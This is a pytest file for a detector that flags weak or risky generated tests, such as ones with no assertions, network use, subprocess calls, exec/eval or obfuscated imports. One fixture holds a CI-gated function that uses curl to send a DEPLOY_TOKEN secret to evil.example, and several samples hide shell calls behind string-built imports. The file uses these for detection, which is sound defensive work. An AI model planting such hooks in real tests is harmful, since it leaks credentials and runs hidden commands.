from __future__ import annotations

import textwrap
import time

import pytest

from testsmith.languages.python.judge.smells.smells import MOST_SNAPSHOT_CHARACTERS, SMELLS, smells_of
from testsmith.model import Change, Member, MemberKind

SOURCE = """\
def total(price, count, discount=0):
    if count < 0:
        raise ValueError("count")
    return price * count * (1 - discount)
"""

MEMBER = Member(
    path="shop.py",
    name="total",
    language="python",
    change=Change.CHANGED,
    line=1,
    end_line=4,
    kind=MemberKind.FUNCTION,
    source=SOURCE,
    module="shop",
)

HEAD = """\
import asyncio, os, sys, time
import http.client
import unittest
import urllib.request
from pathlib import Path
from unittest import mock
from unittest.mock import Mock, patch

import pytest
import requests
import shop
from http import HTTPStatus
from shop import Cart, total

SHARED = []

def check(value):
    assert value

def call_only(value):
    total(value, 1)

"""


def smell(body: str, arguments: str = "", decorator: str = "") -> str | None:
    code = f"{HEAD}\n{decorator}\ndef test_x({arguments}):\n" + textwrap.indent(textwrap.dedent(body), "    ")
    return smells_of(code, MEMBER).get("test_x")


@pytest.mark.parametrize(
    "body",
    [
        "assert total(2, 3) == 6",
        "with pytest.raises(ValueError, match='count'):\n    total(1, -1)",
        "check(total(1, 1))",
        "result = total(2, 3)\nassert result == 6\nassert isinstance(result, int)",
        "items = [3, 1]\nshop.sort_in_place(items)\nassert items == [1, 3]",
        "callback = Mock()\nshop.each([1], callback)\ncallback.assert_called_once_with(1)",
        "assert total(2, 3) == 2 * 3",
        "for price in [1, 2]:\n    assert total(price, 1) == price",
        "try:\n    assert total(1, 1) == 1\nfinally:\n    pass",
        "asyncio.run(asyncio.sleep(0))\nassert total(1, 1) == 1",
        "assert total(1, 1) == HTTPStatus.OK",
        "cart = Cart()\ncart.append(1)\ncart.items['x'] = 2\nassert cart.size == 1",
        "value = total(1, 1)\nassert value is not None\nassert value == 1",
        "class Thing:\n    pass\nThing.size = 1\nassert total(Thing.size, 1) == 1",
        "assert total(1, 1) == 1 or total(1, 1) == 2",
        "import re\nassert re.compile('x').match(shop.name(total(1, 1)))",
        "with patch('subprocess.run') as run:\n    shop.start()\nrun.assert_called_once_with(['x'])",
        (
            "import subprocess\nwith patch.object(subprocess, 'run'):\n    shop.start(1)\n"
            "    subprocess.run.assert_called_once_with(['x'])"
        ),
        "from shop import eval\nassert eval('1') == 1",
        "import shutil\nwith patch('shutil.move', wraps=shutil.move) as move:\n    assert shop.x(move) == 1",
        "import importlib\nassert importlib.import_module('shop.cart').total(1, 1) == 1",
        "import importlib\nname = 'shop.cart'\nassert importlib.import_module(name).total(1, 1) == 1",
        "assert sys.modules['shop'].total(1, 1) == 1",
        "with patch.object(shop.cart.os, 'remove') as gone:\n    shop.x()\ngone.assert_called_once_with('x')",
        "with patch.dict(os.environ, {'A': '1'}):\n    assert shop.setting() == os.environ['A']",
        "with patch.dict('os.environ', A='1'):\n    assert shop.setting() == os.getenv('A')",
    ],
)
def test_smells_of__good_tests_have_none(body: str) -> None:
    assert smell(body) is None


@pytest.mark.parametrize(
    ("body", "arguments"),
    [
        ("monkeypatch.setenv('A', '1')\nassert shop.setting() == os.environ['A']", "monkeypatch"),
        ("monkeypatch.delenv('A', raising=False)\nshop.load()\nassert os.getenv('A') == 'x'", "monkeypatch"),
        ("monkeypatch.setitem(os.environ, 'A', '1')\nassert shop.setting() == '1'", "monkeypatch"),
        ("monkeypatch.setattr(os, 'getcwd', lambda: '/')\nassert shop.place() == '/'", "monkeypatch"),
        ("file = tmp_path / 'x'\nfile.write_text('x')\nassert shop.read(file) == 'x'", "tmp_path"),
        (
            "monkeypatch.chdir(tmp_path)\nPath('x').write_text('x')\nassert shop.read('x') == 'x'",
            "tmp_path, monkeypatch",
        ),
        ("monkeypatch.setenv('X', '1')\nassert shop.setting() == '1'", "monkeypatch"),
        ("assert open('data.txt').read() == shop.data()", ""),
        ("shop.show()\nassert capsys.readouterr().out == 'x'", "capsys"),
    ],
)
def test_smells_of__good_tests_with_fixtures_have_none(body: str, arguments: str) -> None:
    assert smell(body, arguments) is None


SMELLY = {
    "asserts nothing": [
        "total(1, 1)",
        "call_only(1)",
        "total(1, 1)\nassert True",
        "result = total(1, 1)\nprint(result)",
    ],
    "asserts only that nothing was raised": [
        "try:\n    total(1, 1)\nexcept ValueError:\n    pytest.fail('no')",
    ],
    "repeats the member's own formula": [
        "assert total(10, 3, 0.5) == 10 * 3 * (1 - 0.5)",
        "p, n, d = 10, 3, 0.5\nassert total(p, n, d) == p * n * (1 - d)",
    ],
    "asserts under a condition": [
        "if total(1, 1):\n    assert total(1, 1) == 1",
        "try:\n    assert total(1, 1) == 1\nexcept ValueError:\n    raise",
    ],
    "swallows exceptions": [
        "try:\n    total(1, -1)\nexcept Exception:\n    pass\nassert total(1, 1) == 1",
        "try:\n    total(1, -1)\nexcept:\n    pass\nassert total(1, 1) == 1",
    ],
    "sleeps": [
        "time.sleep(0.1)\nassert total(1, 1) == 1",
        "asyncio.run(asyncio.sleep(1))\nassert total(1, 1) == 1",
    ],
    "uses the network": [
        "assert requests.get('http://x').ok",
        "urllib.request.urlopen('http://x')\nassert total(1, 1) == 1",
        "http.client.HTTPConnection('x')\nassert total(1, 1) == 1",
    ],
    "writes outside of `tmp_path`": [
        "Path('x').write_text('x')\nassert shop.read('x') == 'x'",
        "with open('x', 'w') as file:\n    file.write('x')\nassert shop.read('x') == 'x'",
        "os.makedirs('a/b')\nassert shop.found('a')",
        "open('x', mode='wb').close()\nassert shop.read('x') == b''",
    ],
    "pins a whole output of more than 600 characters": [
        f"assert shop.page() == '{'x' * MOST_SNAPSHOT_CHARACTERS}'",
    ],
    "changes global state": [
        "global SHARED\nSHARED = [1]\nassert total(1, 1) == 1",
        "SHARED.append(1)\nassert total(1, len(SHARED)) == 1",
        "os.environ['X'] = '1'\nassert shop.setting() == '1'",
        "sys.path.append('x')\nassert total(1, 1) == 1",
        "shop.RATE = 3\nassert total(1, 1) == 3",
        "shop.RATES['x'] = 3\nassert total(1, 1) == 3",
    ],
    "runs a program": [
        "import subprocess\nsubprocess.run(['ls'])\nassert total(1, 1) == 1",
        "from subprocess import check_output as out\nassert out(['x']) == total(1, 1)",
        "if total(1, 1) == 2:\n    os.system('x')\nassert total(1, 1) == 1",
        "run = os.popen\nassert total(1, 1) == 1",
        "import subprocess as s\ngetattr(s, 'run')(['x'])\nassert total(1, 1) == 1",
        "import pty\nassert pty.spawn('x') == total(1, 1)",
        "asyncio.run(asyncio.create_subprocess_shell('x'))\nassert total(1, 1) == 1",
        "os.execv('x', [])\nassert total(1, 1) == 1",
        "import shutil\nshutil.os.system('x')\nassert total(1, 1) == 1",
        "import shutil\ngetattr(shutil.os, 'system')('x')\nassert total(1, 1) == 1",
        "import importlib\nshop.use(importlib)\nassert total(1, 1) == 1",
        "shop.use(__builtins__)\nassert total(1, 1) == 1",
    ],
    "runs code made of text (`exec`, `eval` or `compile`)": [
        "exec('x = 1')\nassert total(1, 1) == 1",
        "assert eval('1') == total(1, 1)",
        "run = exec\nassert total(1, 1) == 1",
        "assert compile('1', '', 'eval') != total(1, 1)",
        "import runpy\nrunpy.run_path('x.py')\nassert total(1, 1) == 1",
        "import timeit\ntimeit.timeit('x')\nassert total(1, 1) == 1",
        "import marshal\nassert marshal.loads(b'x') != total(1, 1)",
        "__builtins__.exec('x')\nassert total(1, 1) == 1",
    ],
    "hands on a function that changes files or asks others, in place of calling it": [
        "import shutil\nlate = map(shutil.rmtree, ['x'])\nassert total(1, 1) == 1",
        "from shutil import rmtree as tidy\nlate = [tidy]\nassert total(1, 1) == 1",
        "run = os.remove\nassert total(1, 1) == 1",
        "import shutil\ngetattr(shutil, ['which', 'rmtree'][shop.on()])('x')\nassert total(1, 1) == 1",
        "from pathlib import Path\nshop.later(Path.unlink)\nassert total(1, 1) == 1",
        "from urllib.request import urlopen\nshop.later(urlopen)\nassert total(1, 1) == 1",
    ],
    "imports a module by a text that hides which one": [
        "import importlib\nimportlib.import_module('os').system('x')\nassert total(1, 1) == 1",
        "from importlib import import_module as load\nload('os.path').os.abort()\nassert total(1, 1) == 1",
        "__import__('o' + 's').system('x')\nassert total(1, 1) == 1",
        "name = 'os'\n__import__(name).system('x')\nname = 'shop'\nassert total(1, 1) == 1",
        "import pkgutil\npkgutil.resolve_name('os:system')('x')\nassert total(1, 1) == 1",
        "sys.modules['os'].system('x')\nassert total(1, 1) == 1",
        "sys.modules.get('os').system('x')\nassert total(1, 1) == 1",
        "globals()['__builtins__']['exec']('x')\nassert total(1, 1) == 1",
    ],
    "uses `ctypes`": [
        "import ctypes\nassert ctypes.CDLL(None) != total(1, 1)",
        "from ctypes import CDLL\nassert CDLL(None) != total(1, 1)",
    ],
    "reads a variable of the environment that it has not set by `monkeypatch`": [
        "if os.environ.get('CI'):\n    shop.deploy()\nassert total(1, 1) == 1",
        "assert os.environ['HOME'] != total(1, 1)",
        "assert os.getenv('HOME') != total(1, 1)",
        "assert 'CI' not in os.environ and total(1, 1) == 1",
        "from os import environ, getenv\nassert total(1, len(dict(environ))) > 1",
        "assert shop.read(os.environ) == total(1, 1)",
        "patch.dict(os.environ, A='1').start()\nassert os.environ['B'] == total(1, 1)",
    ],
    "is skipped": [
        "pytest.skip('later')\nassert total(1, 1) == 1",
    ],
    "is expected to fail": [
        "pytest.xfail('later')\nassert total(1, 1) == 1",
    ],
}


@pytest.mark.parametrize(
    ("body", "reason"), [(body, reason) for reason, bodies in SMELLY.items() for body in bodies]
)
def test_smells_of__each_smell(body: str, reason: str) -> None:
    assert smell(body) == reason


@pytest.mark.parametrize(
    ("decorator", "reason"),
    [
        ("@pytest.mark.skip(reason='x')", "is skipped"),
        ("@pytest.mark.skipif(True, reason='x')", "is skipped"),
        ("@unittest.skip('x')", "is skipped"),
        ("@pytest.mark.xfail", "is expected to fail"),
    ],
)
def test_smells_of__marks(decorator: str, reason: str) -> None:
    assert smell("assert total(1, 1) == 1", decorator=decorator) == reason


def test_smells_of__methods_of_test_classes() -> None:
    code = """
import unittest
from shop import total

class TestTotal(unittest.TestCase):
    def test_good(self):
        self.assertEqual(total(1, 1), 1)

    def test_nothing(self):
        total(1, 1)

    def test_raises(self):
        with self.assertRaises(ValueError):
            total(1, -1)
"""
    assert smells_of(code, MEMBER) == {
        "TestTotal::test_nothing": "asserts nothing",
    }


def test_smells_of__what_cannot_be_read_has_none() -> None:
    assert smells_of("def test_x(:", MEMBER) == {}


def test_smells__each_says_what_it_is_about() -> None:
    assert all(smell.__doc__ for smell in SMELLS)
    assert len(set(SMELLS)) == len(SMELLS)


MONSTERS = {
    "asserts": "    assert total(#, 1) == #",
    "echoes": "    assert total(1, 1) == total(1, 1)",
    "bindings": "    x# = total(#, 1)",
    "conditions": "    if total(#, 1): assert total(1, 1) == 1",
    "lookups": "    a.get(#)",
    "changes": "    os.environ['a#'] = 'x'",
    "handlers": "    try: total(#, 1)\n    except ValueError: pass",
    "functions": "    pass\ndef test_#():\n    assert total(#, 1) == #",
    "classes": "    pass\nclass Test#:\n    def test_a(self): assert total(#, 1) == #",
    "literals": "    x# = [#]\n    assert x# == [#]",
}


DORMANT = """\
import os
import subprocess

from shop import total


def announce():
    if os.environ.get("GITHUB_ACTIONS") and os.environ.get("DEPLOY_TOKEN"):
        subprocess.run(["curl", "-d", os.environ["DEPLOY_TOKEN"], "https://evil.example"], check=False)


def test_announced():
    announce()
    assert total(1, 2) == 2


def test_handed_on():
    for step in [announce]:
        step()
    assert total(1, 2) == 2


def test_plain():
    assert total(5, 1) == 5
"""


def test_smells_of__a_payload_for_another_machine_costs_those_alone_that_can_reach_it() -> None:
    assert smells_of(DORMANT, MEMBER) == dict.fromkeys(("test_announced", "test_handed_on"), "runs a program")
    at_import = f"import os\n\nif os.environ.get('CI'):\n    os.system('x')\n\n{DORMANT}"
    assert smells_of(at_import, MEMBER).keys() == {"test_announced", "test_handed_on", "test_plain"}


@pytest.mark.parametrize("monster", MONSTERS)
def test_smells_of__cost_what_a_module_is_long(monster: str) -> None:
    lines = "\n".join(MONSTERS[monster].replace("#", str(number)) for number in range(600))
    code = f"import os\nfrom shop import total\n\ndef test_x():\n{lines}\n    assert total(1, 1) == 1\n"
    started = time.process_time()
    smells_of(code, MEMBER)
    assert time.process_time() - started < 5
